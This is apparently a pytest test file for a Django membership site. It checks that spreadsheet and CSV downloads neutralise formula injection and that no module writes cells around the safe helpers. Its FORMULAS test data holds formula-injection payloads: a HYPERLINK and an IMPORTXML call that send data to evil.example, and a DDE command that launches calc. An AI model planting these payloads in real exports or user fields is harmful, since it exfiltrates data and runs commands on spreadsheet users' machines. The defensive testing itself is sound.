"""Every spreadsheet the site writes is safe to open (docs/architecture.md, "Safe downloads"): a name, a
title or a message that begins like a formula comes out as literal text, control characters are dropped,
numbers and dates stay numbers and dates; and no module writes a cell or a CSV row but through the helpers.

The hostile values are written straight into the records (as old data or another way in could leave them),
then each file is downloaded through its real page, and through the API where there is one."""

from __future__ import annotations

import ast
import csv
import datetime
import io
import json
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from doanvu.accounts.models import ApiToken
from doanvu.documents import csvfile, xlsx
from doanvu.evaluation.models import Condition, Content, CriteriaSet, Criterion
from doanvu.lib import periods
from doanvu.members import import_jobs, jobs
from doanvu.members.models import Member
from doanvu.org.models import OrgUnit, UnitVersion
from doanvu.reports.document import report_draft
from doanvu.reports.models import Report

from .import_helpers import row
from .import_helpers import xlsx as xlsx_file
from .test_api_jobs import api_file
from .test_eval_criteria_factories import build_set, xa_editor
from .test_members_factories import admit

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example/","//a")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
# A control character (openpyxl refuses it) in the middle of a formula-like name: dropped, the rest is text.
CONTROL = ("=Nguyễn\x1b Văn\x08 An", "=Nguyễn Văn An")
# Every hostile value as stored → as the file must show it.
HOSTILE = [(value, value) for value in FORMULAS] + [CONTROL]
IDS = ["hyperlink", "dde", "importxml", "plus", "minus", "at", "tab", "carriage-return", "control-char"]


def text_cells(content: bytes) -> dict[str, str]:
    """{value: data type} of every cell holding a string, in every sheet, as openpyxl reads the file back;
    and the same file read by calamine must give the same literal strings."""
    found = {}
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                if isinstance(cell.value, str):
                    found[cell.value] = cell.data_type
    literal = set()
    calamine = CalamineWorkbook.from_filelike(io.BytesIO(content))
    for name in calamine.sheet_names:
        for line in calamine.get_sheet_by_name(name).to_python():
            literal |= {value for value in line if isinstance(value, str)}
    assert set(found) <= literal
    return found


def assert_shown_as_text(response, expected: list[str]) -> None:
    assert response.status_code == 200
    cells = text_cells(response.getvalue())  # a file made by a job is streamed
    for value in expected:
        assert cells.get(value) == "s", f"{value!r} is not a text cell: {cells.get(value)!r}"
    assert "f" not in cells.values()


@pytest.fixture
def api(db):
    def _api(user):
        _token, raw = ApiToken.issue(user=user, name="test")
        return Client(headers={"authorization": f"Bearer {raw}"})

    return _api


# --- the helpers -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("stored", "shown"), HOSTILE, ids=IDS)
@pytest.mark.parametrize("write_only", [False, True], ids=["normal-sheet", "write-only-sheet"])
def test_a_formula_like_string_is_written_as_a_text_cell(stored, shown, write_only):
    book = xlsx.workbook(write_only=write_only)
    sheet = book.create_sheet("Trang") if write_only else book.active
    xlsx.append(sheet, [stored, xlsx.cell(sheet, stored)])
    data = xlsx.to_bytes(book)
    first = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [(c.value, c.data_type, c.quotePrefix) for c in first[1]] == [(shown, "s", True)] * 2
    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python() == [[shown] * 2]


def test_numbers_and_dates_stay_numbers_and_dates_and_an_error_code_stays_text():
    book = xlsx.workbook()
    sheet = book.active
    xlsx.append(sheet, [-2, 3.5, datetime.date(2025, 3, 5), "#N/A", "Nguyễn\x00Văn An", ""])
    xlsx.put(sheet, 2, 1, "=1+1")
    first = load_workbook(io.BytesIO(xlsx.to_bytes(book))).active
    assert [(c.value, c.data_type) for c in first[1]][:5] == [
        (-2, "n"),
        (3.5, "n"),
        (datetime.datetime(2025, 3, 5), "d"),
        ("#N/A", "s"),
        ("NguyễnVăn An", "s"),
    ]
    assert first["F1"].value is None  # an empty string leaves the cell empty
    assert (first["A2"].value, first["A2"].data_type) == ("=1+1", "s")


def test_a_formula_that_slipped_past_the_helpers_is_saved_as_text():
    book = xlsx.workbook()
    book.active["A1"] = "=SUM(1)"
    cell = load_workbook(io.BytesIO(xlsx.to_bytes(book))).active["A1"]
    assert (cell.value, cell.data_type) == ("=SUM(1)", "s")


@pytest.mark.parametrize(("stored", "shown"), HOSTILE, ids=IDS)
def test_a_csv_field_that_begins_like_a_formula_gets_one_quote_in_front(stored, shown):
    out = io.StringIO()
    csvfile.writer(out).writerow([stored, -2, "Chi đoàn A1", None])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == ["'" + shown, "-2", "Chi đoàn A1", ""]


def test_a_nul_character_is_dropped_from_a_csv_field():
    out = io.StringIO()
    csvfile.writer(out).writerow(["An\x00 Bình"])
    assert out.getvalue() == "An Bình\r\n"


# --- nothing writes a cell but through the helpers ---------------------------------------------------------

ROOT = Path(__file__).resolve().parent.parent / "doanvu"
HELPERS = {ROOT / "documents" / "xlsx.py", ROOT / "documents" / "csvfile.py"}
FORBIDDEN = {  # in every module but the helpers
    r"\bWorkbook\(": "a workbook is made by doanvu.documents.xlsx.workbook()",
    r"\bWriteOnlyCell\b|openpyxl\.cell\b": "a cell is made by xlsx.cell, xlsx.put or xlsx.append",
    r"\bcsv\.(writer|DictWriter)\b|from csv import": "a CSV is written by doanvu.documents.csvfile.writer",
    r"\.data_type\s*=(?!=)|\.quotePrefix\s*=(?!=)": "only doanvu.documents.xlsx decides a cell's type",
}
SHEET_MAKERS = {"active", "create_sheet", "worksheets", "get_sheet_by_name"}


def _sheets(tree: ast.AST) -> set[str]:
    """The names a module gives its worksheets: parameters called sheet or ws, and every name assigned from
    a workbook's .active, .create_sheet(…) or .worksheets."""
    names = {"sheet", "ws", "worksheet"}
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign):
            value = node.value.func if isinstance(node.value, ast.Call) else node.value
            value = value.value if isinstance(value, ast.Subscript) else value
            if isinstance(value, ast.Attribute) and value.attr in SHEET_MAKERS:
                names |= {target.id for target in node.targets if isinstance(target, ast.Name)}
    return names


def direct_writes(source: str) -> list[tuple[int, str]]:
    """(line, why) of every value written into a worksheet without the helpers."""
    tree = ast.parse(source)
    sheets = _sheets(tree)

    def sheet(node) -> bool:
        return isinstance(node, ast.Name) and node.id in sheets

    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and sheet(node.func.value):
            if node.func.attr == "append":
                found.append((node.lineno, "a row is added by xlsx.append(sheet, values)"))
            if node.func.attr == "cell" and any(k.arg == "value" for k in node.keywords):
                found.append((node.lineno, "a value is written by xlsx.put(sheet, row, column, value)"))
        for target in node.targets if isinstance(node, ast.Assign) else ():
            if isinstance(target, ast.Subscript) and sheet(target.value):
                found.append((node.lineno, "a value is written by xlsx.put(sheet, row, column, value)"))
            if isinstance(target, ast.Attribute) and target.attr == "value":
                holder = target.value.func.value if isinstance(target.value, ast.Call) else target.value
                holder = holder.value if isinstance(holder, (ast.Subscript, ast.Attribute)) else holder
                if sheet(holder):
                    found.append((node.lineno, "a value is written by xlsx.put(sheet, row, column, value)"))
    return found


def test_no_module_writes_a_cell_or_a_csv_row_but_through_the_safe_helpers():
    wrong = []
    for path in sorted(ROOT.rglob("*.py")):
        if path in HELPERS or "migrations" in path.parts:
            continue
        name, source = path.relative_to(ROOT.parent), path.read_text(encoding="utf-8")
        for number, line in enumerate(source.splitlines(), start=1):
            code = line.split("#", 1)[0]
            wrong += [
                f"{name}:{number}: {why}" for pattern, why in FORBIDDEN.items() if re.search(pattern, code)
            ]
        wrong += [f"{name}:{number}: {why}" for number, why in direct_writes(source)]
    assert wrong == []


@pytest.mark.parametrize(
    "source",
    [
        "sheet = book.active\nsheet.append(['=1'])\n",
        "targets = book.create_sheet('Chỉ tiêu')\ntargets['A1'] = name\n",
        "def write(sheet):\n    sheet.cell(row=1, column=1, value=name)\n",
        "def write(sheet):\n    sheet.cell(row=1, column=1).value = name\n",
        "guide = book.worksheets[1]\nguide['A1'].value = name\n",
    ],
    ids=["append", "subscript", "cell-value", "cell-then-value", "subscript-then-value"],
)
def test_the_rule_catches_a_value_written_into_a_sheet_directly(source):
    assert direct_writes(source)


def test_the_rule_lets_styles_and_formats_through():
    source = "def write(sheet):\n    sheet.cell(row=2, column=3).number_format = '@'\n    xlsx.append(sheet, [1])\n"
    assert direct_writes(source) == []


# --- every download, with hostile records ------------------------------------------------------------------


def test_the_member_export_shows_hostile_names_home_towns_and_unit_names_as_text(tree, people, login):
    for n, (stored, _shown) in enumerate(HOSTILE):
        member = admit(tree.branch_a1, people.own, full_name=f"Nguyễn Văn An {chr(65 + n)}")
        Member.objects.filter(pk=member.pk).update(
            full_name=stored, hometown=stored, residence=stored, occupation=stored
        )
    OrgUnit.objects.filter(pk=tree.branch_a1.pk).update(name=FORMULAS[0])
    response = login(people.own).get(reverse("members:export"))
    assert_shown_as_text(response, [shown for _stored, shown in HOSTILE] + [FORMULAS[0]])
    rows = load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=3, values_only=True)
    first = next(rows)
    assert isinstance(first[0], int) and isinstance(first[2], datetime.datetime)  # numbers and dates stay


def hostile_criteria_set(tree):
    """A set issued by XA to CA1 whose titles, texts and evidence are the hostile values, in turn."""
    criteria_set = build_set(
        tree, xa_editor(tree), issuer=tree.grassroots_a, units=[tree.branch_a1], issue=True
    )
    values = iter(stored for stored, _shown in HOSTILE * 10)
    for model, fields in (
        (Criterion, ["title"]),
        (Content, ["title"]),
        (Condition, ["text", "evidence_required"]),
    ):
        for pk in model.objects.order_by("pk").values_list("pk", flat=True):
            model.objects.filter(pk=pk).update(**{field: next(values) for field in fields})
    CriteriaSet.objects.filter(pk=criteria_set.pk).update(title=FORMULAS[1], number=FORMULAS[3])
    OrgUnit.objects.filter(pk=tree.grassroots_a.pk).update(name=FORMULAS[2])
    return criteria_set


def test_the_criteria_set_download_and_its_api_show_hostile_titles_as_text(tree, people, login, api):
    criteria_set = hostile_criteria_set(tree)
    expected = [shown for _stored, shown in HOSTILE] + [FORMULAS[1], FORMULAS[3]]
    page = login(people.own).get(reverse("evaluation:criteria_export", args=[criteria_set.pk]))
    assert_shown_as_text(page, expected)
    assert_shown_as_text(api(people.own).get(f"/api/criteria-sets/{criteria_set.pk}/xlsx"), expected)


@pytest.mark.parametrize(("stored", "shown"), HOSTILE, ids=IDS)
def test_the_statistics_workbook_and_its_api_show_hostile_unit_names_and_issuer_as_text(
    tree, people, login, api, media, stored, shown
):
    for unit in (tree.branch_a1, tree.branch_a2):
        OrgUnit.objects.filter(pk=unit.pk).update(name=stored)
        UnitVersion.objects.filter(unit=unit).update(name=stored)
    # The issuing body as the officer edited it in the report's draft.
    report = report_draft(unit=tree.grassroots_a, period=periods.parse("2025"), by=people.above)
    Report.objects.filter(pk=report.pk).update(
        sections={**(report.sections or {}), "issuer": stored + " (BCH)"}
    )
    page = login(people.above).get("/bao-cao/van-ban/XA/2025/tai-ve/xlsx/")
    assert_shown_as_text(page, [shown, shown + " (BCH)"])
    assert_shown_as_text(
        api_file(api(people.above), "/api/reports/XA/2025/document?format=xlsx"), [shown, shown + " (BCH)"]
    )


@pytest.mark.parametrize(
    "url",
    ["members:import_template", "evaluation:training_template", "evaluation:criteria_template"],
    ids=["member-import", "training-import", "criteria-set"],
)
def test_the_blank_templates_download_with_their_headers_as_text_and_no_formula(tree, people, login, url):
    response = login(people.own).get(reverse(url))
    assert response.status_code == 200
    cells = text_cells(response.content)
    assert cells and set(cells.values()) == {"s"}


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}


def test_the_import_error_list_puts_a_quote_before_every_formula_like_field(tree, people, login, media):
    client = login(people.own)
    data = xlsx_file([row(1, **{"Giới tính": "-Nam"})]).getvalue()
    response = client.post(
        reverse("members:import"), {"unit": "CA1", "file": SimpleUploadedFile("danh-sach.xlsx", data)}
    )
    job = import_jobs.job_load(response["Location"].rstrip("/").split("/")[-1])
    found = json.loads(jobs.read_result(job))
    # Findings that quote the file's own text at their start, as a header or a message could.
    found["errors"] += [[2, stored, stored] for stored, _shown in HOSTILE]
    jobs.save_result(job, json.dumps(found, ensure_ascii=False))
    download = client.get(reverse("members:import_issues", kwargs={"job_id": job.id}))
    assert download.status_code == 200
    lines = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig"), newline="")))
    assert lines[0] == ["Dòng", "Cột", "Loại", "Nội dung"]
    assert lines[1][:3] == ["2", "Giới tính", "Lỗi"] and "“-Nam”" in lines[1][3]
    assert lines[2:] == [["2", "'" + shown, "Lỗi", "'" + shown] for _stored, shown in HOSTILE]
